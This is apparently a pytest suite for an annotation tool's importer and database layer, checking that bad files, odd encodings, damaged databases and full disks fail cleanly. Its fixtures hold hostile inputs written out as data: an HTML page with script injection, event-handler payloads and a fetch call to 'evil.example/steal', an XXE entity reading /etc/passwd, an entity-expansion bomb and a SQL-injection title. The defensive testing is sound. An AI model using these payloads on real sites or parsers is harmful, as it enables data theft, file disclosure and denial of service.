"""Bad input: each file is refused with one clear line, or read right; the database never suffers.

tests/core/test_ingest.py covers the common encodings, empty/PNG/ZIP/noise
.txt files, the 20 MB refusal, basic hostile HTML and a broken JSONL line;
tests/core/test_store.py the plain not-SQLite file, a newer schema and a
read-only file. Here: the same faults in other disguises, and every refusal
checked against a dump of the database taken before it.
"""

from __future__ import annotations

import errno
import io
import json
import re
import sqlite3
import time
import zipfile
from pathlib import Path

import pytest

from core.check import find_problems
from core.errors import UserError
from core.ingest import import_paths
from core.store import Store

ZH = "德州经开区今年投资2.1亿元。\n第二段文字。"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(200)


def zip_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("a.txt", ZH)
    return buf.getvalue()


def dump(store: Store) -> list[str]:
    return list(store.conn.iterdump())


def one_line(reason: str) -> None:
    assert reason and "\n" not in reason and "Traceback" not in reason and len(reason) < 300


# -- files that are not articles --------------------------------------------------

REFUSED = [
    ("empty.html", b"", "empty file"),
    ("empty.jsonl", b"", "empty file"),
    ("blank.jsonl", b"\n \n\n", "empty file"),
    ("image.html", PNG, "PNG image"),
    ("image.md", PNG, "PNG image"),
    ("image.jsonl", PNG, "PNG image"),
    ("archive.jsonl", None, "ZIP archive"),
    ("archive.htm", None, "ZIP archive"),
    ("elf.txt", b"\x7fELF\x02\x01\x01" + bytes(100), "executable"),
    ("only-nul.txt", b"\x00" * 100, "no text"),
    ("bom-only.txt", b"\xef\xbb\xbf", "no text"),
    ("script-only.html", b"<html><body><script>document.write('x')</script></body></html>", "no text"),
    ("cut-utf16.txt", ZH.encode("utf-16-le") + b"\x00", "undecodable"),
    ("high-bytes.txt", bytes(range(0x80, 0x100)) * 4, "undecodable"),
    ("db.txt", b"SQLite format 3\x00" + bytes(200), "SQLite database"),
]


@pytest.mark.parametrize(("name", "data", "reason"), REFUSED, ids=[r[0] for r in REFUSED])
def test_a_file_that_is_not_an_article_is_refused_in_one_line(seeded_store, tmp_path, name, data,
                                                                 reason):
    path = tmp_path / name
    path.write_bytes(zip_bytes() if data is None else data)
    before = dump(seeded_store)
    report = import_paths(seeded_store, [path])
    assert report.added == [] and len(report.failed) == 1, report.failed
    assert reason in report.failed[0][1]
    one_line(report.failed[0][1])
    assert dump(seeded_store) == before


def test_a_50_mb_file_is_refused_by_its_size_before_it_is_read(fresh_store, tmp_path, monkeypatch):
    path = tmp_path / "huge.txt"
    with open(path, "wb") as f:
        f.write(("很长的文章。" * 10_000 + "\n").encode() * 292)  # 50 MB of real text
    assert path.stat().st_size > 50 * 2**20
    original = Path.read_bytes

    def read_bytes(self):
        assert self != path, "the whole 50 MB file was read"
        return original(self)

    monkeypatch.setattr(Path, "read_bytes", read_bytes)
    started = time.perf_counter()
    report = import_paths(fresh_store, [path])
    assert time.perf_counter() - started < 1.0
    assert re.fullmatch(r"file is 50\.\d MB; the limit is 20 MB per article", report.failed[0][1])
    assert fresh_store.article_count() == 0


def test_a_jsonl_record_over_the_limit_is_reported_and_the_rest_imported(fresh_store, tmp_path):
    big = json.dumps({"title": "巨", "text": "字" * (7 * 2**20)}, ensure_ascii=False)  # 21 MB
    small = json.dumps({"title": "小", "text": ZH}, ensure_ascii=False)
    path = tmp_path / "corpus.jsonl"
    path.write_text(f"{small}\n{big}\n", encoding="utf-8")
    report = import_paths(fresh_store, [path])
    assert len(report.added) == 1
    assert [r for _, r in report.failed] == ["line 2: longer than the 20 MB article limit"]


# -- encodings and line ends not covered by test_ingest --------------------------------

READ_RIGHT = [
    ("utf16be-nobom.txt", ZH.encode("utf-16-be"), ZH),
    ("utf32.txt", ZH.encode("utf-32"), ZH),
    ("gb-astral.txt", ("𠀀㐀" + ZH).encode("gb18030"), "𠀀㐀" + ZH),
    ("gb-headline.txt", "山东省德州市经济技术开发区管委会".encode("gb18030"), "山东省德州市经济技术开发区管委会"),
    ("gb-two.txt", "德州".encode("gb18030"), "德州"),
    ("big5-headline.txt", "山東省德州市經濟技術開發區管委會".encode("big5"), "山東省德州市經濟技術開發區管委會"),
    ("big5-short.txt", "德州經開區".encode("big5"), "德州經開區"),
    ("big5-two.txt", "德州".encode("big5"), "德州"),
    ("utf16le-han-only.txt", "德州经开区投资".encode("utf-16-le"), "德州经开区投资"),
    ("mixed-ends.txt", "第一行\r\n第二行\r第三行\n第四行\r\n\r".encode(), "第一行\n第二行\n第三行\n第四行"),
    ("nul-crlf.txt", "德\x00州\r\n经开\x00\x00区\r".encode(), "德州\n经开区"),
    ("nul-gb.txt", "德州\x00经开区今年投资".encode("gb18030"), "德州经开区今年投资"),
]


@pytest.mark.parametrize(("name", "data", "expected"), READ_RIGHT, ids=[r[0] for r in READ_RIGHT])
def test_other_encodings_and_line_ends_are_read_right(fresh_store, tmp_path, name, data, expected):
    path = tmp_path / name
    path.write_bytes(data)
    report = import_paths(fresh_store, [path])
    assert report.failed == [] and len(report.added) == 1
    article = fresh_store.article(report.added[0])
    assert article.clean_text.strip() == expected
    assert "\x00" not in article.raw_text + article.clean_text
    offsets = article.offsets
    assert offsets.raw_length == len(article.raw_text) and len(offsets) == len(article.clean_text)
    for i, ch in enumerate(article.clean_text):
        rs, re_ = offsets.to_raw(i, i + 1)
        assert article.raw_text[rs:re_] in ({ch} if ch != "\n" else {"\n", "\r\n", "\r"})


# -- hostile HTML -------------------------------------------------------------------

HOSTILE_HTML = """<!DOCTYPE html><html><head><title>新闻</title>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/a.css">
<style>@import url("http://evil.example/b.css"); body{background:url(http://evil.example/bg.png)}</style>
<script src="http://evil.example/x.js"></script><script>fetch('http://evil.example/steal')</script>
</head><body onload="steal()">
<svg onload="alert(2)"><script>alert(3)</script></svg>
<object data="http://evil.example/o.swf"></object><embed src="http://evil.example/e.swf">
<iframe src="javascript:alert(4)"></iframe><img src="x" onerror="alert(5)">
<p onclick="alert(6)">德州经开区今年投资2.1亿元，建设瓶装消毒剂泵头项目。</p>
<p><a href="javascript:alert(7)">第二段</a>正文内容。</p>
<noscript><img src="http://evil.example/track.gif"></noscript>
</body></html>"""

XML_TRICKS = {
    "xxe.html": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                "<html><body><p>&xxe;德州经开区今年投资2.1亿元。</p></body></html>",
    "bomb.html": '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
                 '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
                 '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>'
                 "<html><body><p>&e;德州经开区今年投资2.1亿元。</p></body></html>",
}


def test_hostile_html_keeps_only_the_text(fresh_store, tmp_path):
    path = tmp_path / "page.html"
    path.write_text(HOSTILE_HTML, encoding="utf-8")
    report = import_paths(fresh_store, [path])
    text = fresh_store.article(report.added[0]).clean_text
    assert "德州经开区今年投资2.1亿元" in text and "正文内容" in text
    for bad in ("alert", "steal", "evil", "javascript", "@import", "onload", "onclick", "<", "url("):
        assert bad not in text


@pytest.mark.parametrize("name", sorted(XML_TRICKS))
def test_xml_entities_in_html_are_never_expanded_or_resolved(fresh_store, tmp_path, name):
    path = tmp_path / name
    path.write_text(XML_TRICKS[name], encoding="utf-8")
    started = time.perf_counter()
    report = import_paths(fresh_store, [path])
    assert time.perf_counter() - started < 5
    text = fresh_store.article(report.added[0]).clean_text
    assert "德州经开区" in text
    assert "root:" not in text and "aaaaaaaaaaaaaaaaaaaa" not in text


def test_absurdly_nested_html_is_refused_quickly_not_crashed(fresh_store, tmp_path):
    path = tmp_path / "deep.html"
    path.write_bytes(b"<html><body>" + b"<div>" * 100_000 + "深处的文字。".encode()
                     + b"</div>" * 100_000 + b"</body></html>")
    started = time.perf_counter()
    report = import_paths(fresh_store, [path])
    assert time.perf_counter() - started < 10
    assert len(report.added) + len(report.failed) == 1
    for _, reason in report.failed:
        one_line(reason)


# -- JSONL ----------------------------------------------------------------------------


def test_jsonl_lines_of_every_wrong_kind_are_each_reported_and_the_rest_imported(fresh_store, tmp_path):
    lines = [
        json.dumps({"title": "好", "text": "第一篇文章。"}, ensure_ascii=False).encode(),
        b'"just a string"',
        b"[1, 2, 3]",
        b'{"text": 42}',
        b'{"text": "\xff\xfe broken utf-8"}',
        b'{"text": "   "}',
        b"{'single': 'quotes'}",
        json.dumps({"title": "'); DROP TABLE articles;--", "text": "第二篇\x00文章。"}).encode(),
    ]
    path = tmp_path / "c.jsonl"
    path.write_bytes(b"\xef\xbb\xbf" + b"\r\n".join(lines) + b"\r\n")
    before_tables = fresh_store.conn.execute("SELECT count(*) FROM sqlite_master").fetchone()
    report = import_paths(fresh_store, [path])
    assert len(report.added) == 2
    assert sorted(int(r.split(":")[0].split()[1]) for _, r in report.failed) == [2, 3, 4, 5, 6, 7]
    for _, reason in report.failed:
        one_line(reason)
    second = fresh_store.article(report.added[1])
    assert (second.title, second.clean_text) == ("'); DROP TABLE articles;--", "第二篇文章。")
    assert fresh_store.conn.execute("SELECT count(*) FROM sqlite_master").fetchone() == before_tables


# -- another tool's export with bad spans ------------------------------------------------

TEXT = "记者王志强报道，德州经开区投资2.1亿元。"


def test_another_tools_export_with_bad_spans_keeps_the_good_ones(fresh_store, tmp_path):
    export = pytest.importorskip("core.export", reason="core.export is not in this checkout")
    labels = [[8, 13, "LOC"], [2, 5, "PERSON"], [30, 40, "ORG"], [-1, 2, "ORG"], [5, 2, "ORG"],
              [0, 2, "TITLE"], [15, 20, "CITY"], "junk", [14, 19, "MONEY"]]
    path = tmp_path / "doccano.jsonl"
    path.write_text(json.dumps({"text": TEXT, "label": labels}, ensure_ascii=False), encoding="utf-8")
    report = export.import_file(fresh_store, path, "doccano")
    [aid] = fresh_store.article_ids()
    assert [(e.start, e.end, e.label.value) for e in fresh_store.entities(aid)] == [
        (0, 2, "TITLE"), (2, 5, "PERSON"), (8, 13, "LOC"), (14, 19, "MONEY")]
    assert len(report.problems) == 5
    for problem in report.problems:
        one_line(problem)
    assert find_problems(fresh_store) == []


def test_overlapping_spans_inside_one_imported_document_are_not_both_stored(fresh_store, tmp_path):
    export = pytest.importorskip("core.export", reason="core.export is not in this checkout")
    path = tmp_path / "doccano.jsonl"
    path.write_text(json.dumps({"text": TEXT, "label": [[0, 3, "TITLE"], [2, 5, "PERSON"]]},
                               ensure_ascii=False), encoding="utf-8")
    export.import_file(fresh_store, path, "doccano")
    assert len(fresh_store.entities(1)) == 1


def test_label_studio_spans_whose_text_does_not_match_are_reported(fresh_store, tmp_path):
    export = pytest.importorskip("core.export", reason="core.export is not in this checkout")

    def region(start, end, text, label="ORG"):
        return {"type": "labels", "from_name": "label", "to_name": "text", "id": f"r{start}",
                "value": {"start": start, "end": end, "text": text, "labels": [label]}}

    tasks = [{"data": {"text": TEXT}, "annotations": [{"result": [
        region(8, 13, "德州经开区", "LOC"), region(2, 5, "李爱军", "PERSON"),
        region(15, 99, "2.1亿元", "MONEY"), region(0, 2, "记者", "TITLE")]}]}]
    path = tmp_path / "ls.json"
    path.write_text(json.dumps(tasks, ensure_ascii=False), encoding="utf-8")
    report = export.import_file(fresh_store, path, "labelstudio")
    [aid] = fresh_store.article_ids()
    stored = {(e.start, e.end, e.text) for e in fresh_store.entities(aid)}
    assert (8, 13, "德州经开区") in stored and (0, 2, "记者") in stored
    assert not any(text in ("李爱军", "王志强") for _, _, text in stored)  # mismatch: skipped
    assert not any(end > len(TEXT) for _, end, _ in stored)
    assert len(report.problems) >= 2
    assert find_problems(fresh_store) == []


# -- database files ------------------------------------------------------------------------


def sqlite_file(path: Path, *statements: str) -> bytes:
    conn = sqlite3.connect(path)
    for statement in statements:
        conn.execute(statement)
    conn.commit()
    conn.close()
    return path.read_bytes()


def test_another_apps_sqlite_file_is_refused_and_not_touched(tmp_path):
    path = tmp_path / "notes.db"
    before = sqlite_file(path, "CREATE TABLE notes (body TEXT)", "INSERT INTO notes VALUES ('hi')")
    with pytest.raises(UserError, match="not a Pizhu database") as info:
        Store(path)
    one_line(str(info.value))
    assert path.read_bytes() == before  # not even switched to WAL
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.db"]


def test_a_newer_schema_in_rollback_journal_mode_is_left_byte_identical(tmp_path):
    path = tmp_path / "newer.db"
    Store(path).close()
    before = sqlite_file(path, "PRAGMA journal_mode = DELETE",
                        "UPDATE meta SET value = '7' WHERE key = 'schema_version'")
    with pytest.raises(UserError, match="newer than this Pizhu supports") as info:
        Store(path)
    one_line(str(info.value))
    assert path.read_bytes() == before


@pytest.mark.parametrize("damage", ["truncated", "garbled", "header only"])
def test_a_damaged_database_gives_one_clear_line(tmp_path, damage):
    path = tmp_path / "damaged.db"
    with Store(path) as store:
        store.add_articles([])
        import_paths(store, [Path(__file__).parents[2] / "seeds"])
    sqlite_file(path, "PRAGMA journal_mode = DELETE")
    data = bytearray(path.read_bytes())
    if damage == "truncated":
        data = data[: len(data) // 3]
    elif damage == "garbled":
        data[100:4096] = bytes(range(256)) * 15 + bytes(3996 - 3840)
    else:
        data = data[:16]
    path.write_bytes(bytes(data))
    try:
        store = Store(path)
    except UserError as exc:
        one_line(str(exc))
    else:  # damage SQLite cannot see at open: `pizhu check` must
        with store:
            assert [p.kind for p in find_problems(store)][:1] == ["integrity"]
    assert path.read_bytes() == bytes(data)


def test_a_database_in_a_missing_folder_is_a_clear_error(tmp_path):
    with pytest.raises(UserError, match="does not exist"):
        Store(tmp_path / "nowhere" / "x.db")


def test_the_cli_says_what_is_wrong_in_one_line(tmp_path, capsys):
    from core.cli import main

    path = tmp_path / "notes.db"
    path.write_bytes(b"not a database at all, just notes")
    good = tmp_path / "a.txt"
    good.write_text(ZH, encoding="utf-8")
    assert main(["import", str(path), str(good)]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("pizhu:") and "not an SQLite file" in err and "\n" not in err
    assert path.read_bytes() == b"not a database at all, just notes"


@pytest.mark.parametrize("how", ["asked", "file not writable"])
def test_a_read_only_database_says_so_and_is_not_changed(seeded_store, tmp_path, monkeypatch, how):
    from core import operations as ops
    from core.model import Label

    path = seeded_store.path
    seeded_store.close()
    before = path.read_bytes()
    if how == "file not writable":  # tests run as root too, where chmod would not bite
        import core.store

        monkeypatch.setattr(core.store.os, "access", lambda p, mode: False)
    with Store(path, readonly=True if how == "asked" else None) as store:
        assert store.readonly
        (tmp_path / "new.txt").write_text("新文章。", encoding="utf-8")
        with pytest.raises(UserError, match="read-only"):
            import_paths(store, [tmp_path / "new.txt"])
        with pytest.raises(UserError, match="read-only"):
            ops.add_entity(store, 1, 0, 2, Label.LOC, annotator="me")
        assert store.article_count() == 2
    assert path.read_bytes() == before


# -- disk full during an export -----------------------------------------------------------


class FullDisk:
    """A file object that takes `room` characters, then fails as a full disk does."""

    def __init__(self, fh, room: int) -> None:
        self._fh, self._room = fh, room

    def write(self, data):
        self._room -= len(data)
        if self._room < 0:
            raise OSError(errno.ENOSPC, "No space left on device")
        return self._fh.write(data)

    def writelines(self, lines):
        for line in lines:
            self.write(line)

    def __getattr__(self, name):
        return getattr(self._fh, name)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return self._fh.__exit__(*exc)


@pytest.mark.parametrize("fmt", ["doccano", "labelstudio", "pizhu", "conll", "brat"])
def test_a_full_disk_during_export_leaves_no_partial_file(seeded_store, tmp_path, monkeypatch, fmt):
    export = pytest.importorskip("core.export", reason="core.export is not in this checkout")
    import builtins
    import os

    import core.formats.atomic as atomic

    out = tmp_path / "out"
    out.mkdir()
    target = out / ("brat" if fmt == "brat" else f"data.{fmt}")
    if fmt == "brat":
        real_open = builtins.open
        monkeypatch.setattr(export.load("brat"), "open",
                            lambda *a, **k: FullDisk(real_open(*a, **k), 300), raising=False)
    else:
        real_fdopen = os.fdopen
        monkeypatch.setattr(atomic.os, "fdopen", lambda *a, **k: FullDisk(real_fdopen(*a, **k), 300))
    with pytest.raises(UserError, match="disk full") as info:
        export.export(seeded_store, fmt, target)
    one_line(str(info.value))
    assert list(out.iterdir()) == []  # no partial file, no temporary left behind
